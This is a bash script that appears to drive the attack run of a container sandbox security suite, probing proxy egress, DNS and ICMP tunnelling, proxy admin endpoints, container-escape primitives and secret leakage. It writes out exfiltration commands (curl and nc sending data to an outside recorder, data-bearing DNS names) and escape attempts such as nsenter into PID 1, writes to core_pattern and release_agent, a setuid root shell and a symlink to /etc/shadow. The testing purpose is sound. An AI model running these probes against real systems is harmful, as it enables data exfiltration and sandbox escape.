#!/bin/bash
# The security suite's main attack run (attacks.md R-mode cases), executed inside a real sandbox. Independent probes
# run in parallel; each prints "CASE-ID name: result" lines that the suite asserts one by one. Addresses come from
# env.sh, written by the test: only recorders, listeners and networks the test itself created.
. /workspace/.atk/env.sh
S=/workspace/.atk/sock.py
P=$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf)
GW=$(ip route | awk '/^default/{print $3; exit}')
say() { echo "$1 $2: $3"; }
# An HTTP status, or status/exit=N when curl failed. A failed TLS handshake (exit 35) is retried: under heavy load
# the proxy's first handshake for a new name can outlast Kestrel's handshake timeout, and no request was sent yet.
code() {
  local id=$1 out rc; shift
  for _ in 1 2 3; do out=$(curl -s -o "/tmp/body.$id" -w '%{http_code}' -m 90 "$@"); rc=$?; [ $rc -ne 35 ] && break; sleep 2; done
  if [ $rc -eq 0 ]; then printf '%s' "$out"; else printf '%s/exit=%s' "$out" $rc; fi
}
ran() { "$@" >/dev/null 2>&1 && echo allowed || echo denied; }
say ENV proxy "$P"
say ENV gateway "${GW:-none}"
say ENV client "$(ip -4 -o addr show scope global | awk '{split($4,a,"/"); print a[1]; exit}')"

# --- NET-01: direct IP egress to the outside recorder, bypassing DNS and the proxy
( say NET-01 curl-tcp-8080 "$(curl -s -o /dev/null -w '%{http_code}' -m 5 "http://$OUT_O:8080/x?d=$(echo secret | base64 -w0)")"
  say NET-01 nc-tcp-8080 "$(echo EXFIL | timeout 5 nc -w3 "$OUT_O" 8080 >/dev/null 2>&1 && echo connected || echo failed)"
  say NET-01 tcp-443 "$(python3 $S tcp "$OUT_O" 443)"
  for port in 22 25 80 853 2375; do say NET-01 tcp-$port "$(python3 $S tcp "$OUT_O" $port)"; done
  say NET-01 udp-9999 "$(python3 $S udp "$OUT_O" 9999)"
  say NET-01 quic-udp-443 "$(python3 $S udp "$OUT_O" 443)"
  say NET-01 udp-123 "$(python3 $S udp "$OUT_O" 123)"
  say NET-01 pinned-name "$(curl -s -o /dev/null -w '%{http_code}' -m 5 --resolve "allowed.test:443:$OUT_O" https://allowed.test/pub/pinned)" ) &

# --- NET-02: ICMP tunnel through unprivileged ICMP sockets
( say NET-02 ping-outside "$(ping -c2 -W2 -p 4558464c54524154 "$OUT_O" >/dev/null 2>&1 && echo replied || echo failed)"
  say NET-02 icmp-socket "$(python3 $S icmp "$OUT_O")"
  say NET-02 ping-gateway "$(if [ -n "$GW" ]; then ping -c1 -W2 "$GW" >/dev/null 2>&1 && echo replied || echo failed; else echo failed; fi)"
  say NET-02 ping_group_range "$(tr '\t' ' ' < /proc/sys/net/ipv4/ping_group_range)" ) &

# --- NET-03: the proxy as a router: the egress side (recorders, the peer run's proxy) from the client
( say NET-03 tcp-outside-egress-8080 "$(python3 $S tcp "$OUT_E" 8080)"
  say NET-03 udp-outside-egress-9999 "$(python3 $S udp "$OUT_E" 9999)"
  say NET-03 ping-outside-egress "$(ping -c1 -W2 "$OUT_E" >/dev/null 2>&1 && echo replied || echo failed)"
  say NET-03 tcp-upstream-443 "$(python3 $S tcp "$UP" 443)"
  say NET-03 tcp-peer-proxy-egress-443 "$(python3 $S tcp "$B_PROXY_EGRESS" 443)"
  say NET-03 route-add "$(ran ip route add "$OUT_E/32" via "$P")" ) &

# --- NET-04: the proxy's listening ports from the client's network
( say NET-04 tcp-open "$(python3 $S scan "$P")"
  say NET-04 udp-53 "$(python3 $S udp "$P" 53)"
  for port in 443 853 5353 123 161; do say NET-04 udp-$port "$(python3 $S udp "$P" $port)"; done
  say NET-04 dot-853 "$(timeout 10 openssl s_client -connect "$P:853" -servername dns.test </dev/null >/dev/null 2>&1 && echo handshake || echo failed)"
  say NET-04 ssh-22 "$(python3 $S tcp "$P" 22)" ) &

# --- NET-05: the host and runtime APIs through the gateway
( say NET-05 host-listener-via-outside-gateway "$(python3 $S tcp "$HOST_GW" "$HOST_PORT")"
  if [ -n "$GW" ]; then
    for port in "$HOST_PORT" 2375 2376 5200 8080 22; do say NET-05 gateway-tcp-$port "$(python3 $S tcp "$GW" $port)"; done
  fi
  say NET-05 docker-api-outside-gateway "$(curl -s -o /dev/null -w '%{http_code}' -m 5 "http://$HOST_GW:2375/version")"
  for alias in host.docker.internal host.containers.internal gateway.docker.internal; do
    addr=$(getent hosts "$alias" | awk '{print $1; exit}')
    say NET-05 "alias-$alias" "${addr:-none}"
    if [ -n "$addr" ] && [ "$addr" != "$P" ]; then say NET-05 "alias-$alias-tcp" "$(python3 $S tcp "$addr" "$HOST_PORT")"; fi
  done
  say NET-05 hosts-gateway-entries "$(grep -E 'host[.](containers|docker)[.]internal|gateway[.]docker' /etc/hosts | grep -vc '^127[.]')" ) &

# --- NET-07: the concurrent peer sandbox B
( for port in 80 443 53 8080; do
    say NET-07 peer-proxy-tcp-$port "$(python3 $S tcp "$B_PROXY" $port)"
    say NET-07 peer-client-tcp-$port "$(python3 $S tcp "$B_CLIENT" $port)"
  done
  say NET-07 peer-proxy-udp-53 "$(python3 $S udp "$B_PROXY" 53)"
  say NET-07 peer-surrogate-to-scoped "$(code n7a -H "Authorization: Bearer $B_SURR" "https://scoped.test/pub/net07-peer?rq=n7a")"
  say NET-07 own-surrogate-to-peer-scoped "$(code n7b -H "Authorization: Bearer $TOK" "https://scopedb.test/pub/net07-own?rq=n7b")" ) &

# --- DNS-01: data in A-query names
( chunk=$(head -c 15 /dev/urandom | od -An -tx1 | tr -d ' \n')
  answer=$(dig +noall +answer +time=3 +tries=1 A "$chunk.c1.exfil.test" @"$P")
  say DNS-01 dig-a "$(echo "$answer" | awk '{print "ttl=" $2 " addr=" $5}')"
  say DNS-01 dig-name "$chunk.c1.exfil.test"
  say DNS-01 dig-allowed "$(dig +short +time=3 +tries=1 A allowed.test @"$P")"
  say DNS-01 getent "$(getent hosts "$chunk.c2.exfil.test" | awk '{print $1}')" ) &

# --- DNS-04: alternate resolver paths
( say DNS-04 tcp-53-txt "$(dig +tcp +time=3 +tries=1 TXT x.exfil.test @"$P" | awk '/status:/{gsub(",","",$6); print $6}' | grep . || echo no-answer)"
  say DNS-04 udp-txt "$(dig +time=3 +tries=1 TXT x.exfil.test @"$P" | awk '/status:/{gsub(",","",$6); print $6}' | grep . || echo no-answer)"
  say DNS-04 docker-embedded "$(dig +time=2 +tries=1 TXT x.exfil.test @127.0.0.11 | awk '/status:/{gsub(",","",$6); print $6}' | grep . || echo no-answer)"
  if [ -n "$GW" ]; then say DNS-04 gateway "$(python3 $S udp "$GW" 53)"; fi
  say DNS-04 outside-resolver "$(python3 $S udp "$OUT_O" 53)"
  say DNS-04 outside-resolver-dig "$(dig +short +time=2 +tries=1 A x.exfil.test @"$OUT_O" >/dev/null 2>&1 && echo answered || echo failed)"
  say DNS-04 doh "$(code d4doh "https://doh.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB&rq=d4doh")"
  say DNS-04 nameservers "$(awk '/^nameserver/{print $2}' /etc/resolv.conf | tr '\n' ' ' | sed 's/ $//')" ) &

# --- ADM-01: the proxy itself and built-in endpoints
( say ADM-01 proxy-ip "$(code a1 "http://$P/?rq=a1")"
  say ADM-01 proxy-ip-https "$(code a2 -k "https://$P/?rq=a2")"
  say ADM-01 host-localhost "$(code a3 -H 'Host: localhost' "http://$P/?rq=a3")"
  say ADM-01 host-loopback "$(code a4 -H 'Host: 127.0.0.1' "http://$P/?rq=a4")"
  say ADM-01 host-mitm.it "$(code a5 -H 'Host: mitm.it' "http://$P/?rq=a5")"
  # The proxy's real container name, learned by the host from the engine while this run is live (bounded wait).
  for _ in $(seq 1 600); do [ -s /workspace/.atk/proxy-name ] && break; sleep 0.5; done
  PN=$(cat /workspace/.atk/proxy-name 2>/dev/null)
  say ADM-01 proxy-name "${PN:-timeout}"
  say ADM-01 host-proxy-name "$(code a6 -H "Host: ${PN:-timeout}" "http://$P/?rq=a6")"
  say ADM-01 host-proxy-name-https "$(code a7 -k --resolve "${PN:-timeout}:443:$P" "https://${PN:-timeout}/?rq=a7")"
  say ADM-01 body-proxy-name "$(grep -o blocked_by_network_allowlist /tmp/body.a6 | head -1)"
  n=0
  for path in healthz health metrics debug/pprof swagger _admin .well-known/airut; do
    n=$((n + 1)); say ADM-01 "path-/$path" "$(code a1$n "https://allowed.test/$path?rq=a1$n")"
  done
  say ADM-01 options-star "$(code a20 -X OPTIONS --request-target '*' http://allowed.test/)"
  say ADM-01 body-error "$(grep -o blocked_by_network_allowlist /tmp/body.a3 | head -1)" ) &

# --- CT-01..CT-04: container hardening
( say CT-01 capeff "$(awk '/^CapEff/{print $2}' /proc/self/status)"
  say CT-01 capprm "$(awk '/^CapPrm/{print $2}' /proc/self/status)"
  say CT-01 capbnd "$(awk '/^CapBnd/{print $2}' /proc/self/status)"
  say CT-01 capamb "$(awk '/^CapAmb/{print $2}' /proc/self/status)"
  say CT-01 capinh "$(awk '/^CapInh/{print $2}' /proc/self/status)"
  say CT-01 nonewprivs "$(awk '/^NoNewPrivs/{print $2}' /proc/self/status)"
  say CT-01 seccomp "$(awk '/^Seccomp:/{print $2}' /proc/self/status)"
  say CT-01 uid_map "$(awk '{print $1 " " $2 " " $3}' /proc/self/uid_map)"
  say CT-02 mount-tmpfs "$(ran mount -t tmpfs x /mnt)"
  say CT-02 mount-bind "$(ran mount --bind / /mnt)"
  say CT-02 unshare-user-mount "$(ran unshare -Urm true)"
  say CT-02 unshare-net "$(ran unshare -n true)"
  say CT-02 mknod-block "$(ran mknod /tmp/sda b 8 0)"
  say CT-02 swapon "$(ran swapon /dev/null)"
  say CT-02 nsenter-pid1-mount "$(ran nsenter -t 1 -m true)"
  say CT-02 pivot_root "$(mkdir -p /tmp/newroot/old && ran pivot_root /tmp/newroot /tmp/newroot/old)"
  say CT-02 chroot-escape "$(ran chroot / sh -c 'mount -t proc x /mnt')"
  say CT-02 setcap "$(cp /bin/true /tmp/t && ran setcap cap_net_raw+ep /tmp/t)"
  say CT-02 bpf "$(python3 -c 'import ctypes,sys;l=ctypes.CDLL(None,use_errno=True);sys.exit(0 if l.syscall(321,0,0,0)>=0 else 1)' >/dev/null 2>&1 && echo allowed || echo denied)"
  say CT-02 perf_event_open "$(python3 -c 'import ctypes,sys;l=ctypes.CDLL(None,use_errno=True);a=ctypes.create_string_buffer(128);sys.exit(0 if l.syscall(298,a,0,-1,-1,0)>=0 else 1)' >/dev/null 2>&1 && echo allowed || echo denied)"
  say CT-03 ip_forward "$(ran sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward')"
  say CT-03 sysrq-trigger "$(ran sh -c 'echo h > /proc/sysrq-trigger')"
  say CT-03 core_pattern "$(ran sh -c "echo '|/x' > /proc/sys/kernel/core_pattern")"
  say CT-03 kcore "$(head -c 16 /proc/kcore 2>/dev/null | wc -c)"
  say CT-03 keys "$(cat /proc/keys 2>/dev/null | wc -c)"
  say CT-03 timer_list "$(cat /proc/timer_list 2>/dev/null | wc -c)"
  say CT-03 sched_debug "$(cat /proc/sched_debug 2>/dev/null | wc -c)"
  say CT-03 uevent_helper "$(ran sh -c 'echo /x > /sys/kernel/uevent_helper')"
  say CT-03 cgroup-mkdir "$(ran mkdir /sys/fs/cgroup/memory/x)"
  say CT-03 release_agent "$(ran sh -c 'echo /x > /sys/fs/cgroup/memory/release_agent')"
  say CT-03 pids-max "$(ran sh -c 'echo max > /sys/fs/cgroup/pids/pids.max')"
  say CT-04 raw-socket "$(python3 $S raw)"
  say CT-04 packet-socket "$(python3 $S packet)"
  say CT-04 promisc "$(ran ip link set eth0 promisc on)"
  say CT-04 route-replace "$(ran ip route replace default via "$P")"
  say CT-04 addr-add "$(ran ip addr add "$B_PROXY/32" dev eth0)"
  say CT-04 arp-spoof "$(ran ip neigh replace "${GW:-$P}" lladdr 02:42:de:ad:be:ef dev eth0)" ) &

# --- CT-05: dangerous files planted in the rw workspace
( cp /bin/sh /workspace/rootsh && chown 0:0 /workspace/rootsh
  say CT-05 chmod-setuid "$(ran chmod 4755 /workspace/rootsh)"
  say CT-05 mknod-char "$(ran mknod /workspace/mem c 1 1)"
  ln -s /etc/shadow /workspace/link
  say CT-05 workspace-mount "$(awk '$5 == "/workspace" {print $6}' /proc/self/mountinfo)" ) &

# --- CT-06: mounts, runtime sockets, namespaces
( say CT-06 mounts "$(awk '{print $5}' /proc/self/mountinfo | sort -u | tr '\n' ' ')"
  say CT-06 sockets "$(find / -xdev -type s 2>/dev/null | head -5 | tr '\n' ' ')"
  say CT-06 runtime-sockets "$(ls -d /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock /run/user/*/podman/podman.sock 2>/dev/null | wc -l)"
  say CT-06 runtime-env "$(env | grep -ciE '^(DOCKER_HOST|CONTAINER_HOST|DOCKER_CERT_PATH)=')"
  say CT-06 hostname "$(hostname)"
  say CT-06 pid1 "$(tr '\0' ' ' < /proc/1/cmdline | cut -c1-60)"
  say CT-06 processes "$(ls -d /proc/[0-9]* | wc -l)"
  say CT-06 host-files "$(ls -d /root/.ssh /home/* /etc/airut /var/lib/docker /var/lib/containers /run/airut 2>/dev/null | wc -l)" ) &

# --- SEC-01: real values, replacement map and CA key absent from the client
( say SEC-01 surrogate "$TOK"
  say SEC-01 aws-key-id "$AWS_ACCESS_KEY_ID"
  say SEC-01 aws-secret "$AWS_SECRET_ACCESS_KEY"
  say SEC-01 aws-session "$AWS_SESSION_TOKEN"
  say SEC-01 real-slice-in-env "$(grep -c -F "$REAL_SLICE" /proc/1/environ /proc/self/environ | awk -F: '{s+=$2} END {print s+0}')"
  say SEC-01 real-slice-in-files "$(grep -rIl -F "$REAL_SLICE" /etc /run /tmp /var /root /opt /home /srv /mnt /media 2>/dev/null | wc -l)"
  say SEC-01 ca-private-keys "$(cat /usr/local/share/ca-certificates/*.crt /etc/ssl/certs/ca-certificates.crt /etc/pki/tls/certs/ca-bundle.crt 2>/dev/null | grep -c 'PRIVATE KEY')"
  say SEC-01 ca-certificates "$(cat /usr/local/share/ca-certificates/*.crt | grep -c 'BEGIN CERTIFICATE')"
  say SEC-01 config-files "$(find / -xdev \( -name 'replacements*' -o -name '*allowlist*.json' -o -name 'proxy.json' -o -name '*mitmproxy-ca*' -o -name '*.pfx' -o -name '*.key' -o -name 'ca-key*' \) ! -type l -not -path '/usr/local/share/ca-certificates/*' -not -path '/usr/share/*' -not -path '/usr/lib/*' 2>/dev/null | head -5 | tr '\n' ' ')" ) &

# --- LOG-01: the network log is not visible from the container
( say LOG-01 visible-logs "$(find / -xdev \( -name '*network*log*' -o -name 'network-sandbox*' \) -not -path '/usr/*' -not -path '/proc/*' 2>/dev/null | head -5 | tr '\n' ' ')" ) &

# --- SEC-02: proxy error paths never echo real values (the suite scans every byte of output)
( say SEC-02 scoped-upstream "$(code s2a -H "Authorization: Bearer $TOK" "https://scoped.test/pub/inject?rq=s2a")"
  say SEC-02 tls-failure "$(code s2b -H "Authorization: Bearer $TOK" "https://tls.scoped.test/pub/x?rq=s2b")"
  say SEC-02 blocked-with-surrogate "$(code s2c -H "Authorization: Bearer $TOK" "https://evil.test/x?rq=s2c")"
  for id in s2a s2b s2c; do say SEC-02 "body-$id" "$(tr '\n' ' ' < /tmp/body.$id)"; done
  say SEC-02 open-host-surrogate "$(code s2d -H "Authorization: Bearer $TOK" "https://open.test/pub/out-of-scope?rq=s2d")"
  aws() { code "$1" --aws-sigv4 "aws:amz:us-east-1:s3" --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -H "x-amz-security-token: $AWS_SESSION_TOKEN" "$2"; }
  say SEC-02 aws-resigned "$(aws aws1 "https://s3.scoped.test/bucket/key?rq=aws1")"
  say SEC-02 aws-out-of-scope "$(aws aws2 "https://open.test/pub/aws?rq=aws2")"
  say SEC-02 body-aws1 "$(tr '\n' ' ' < /tmp/body.aws1)" ) &

# --- host-side checks while both runs are live (inspect, /proc scans, proxy sysctls)
( echo "HOSTCHECK ready"
  for _ in $(seq 1 600); do [ -e /workspace/.atk/hostcheck-done ] && break; sleep 0.5; done
  say HOST check "$( [ -e /workspace/.atk/hostcheck-done ] && echo done || echo timeout)" ) &

wait
# G6: after every hostile input the proxy still serves the control request.
say G6 control "$(code g6 "https://allowed.test/pub/ok?rq=g6")"
exit 0
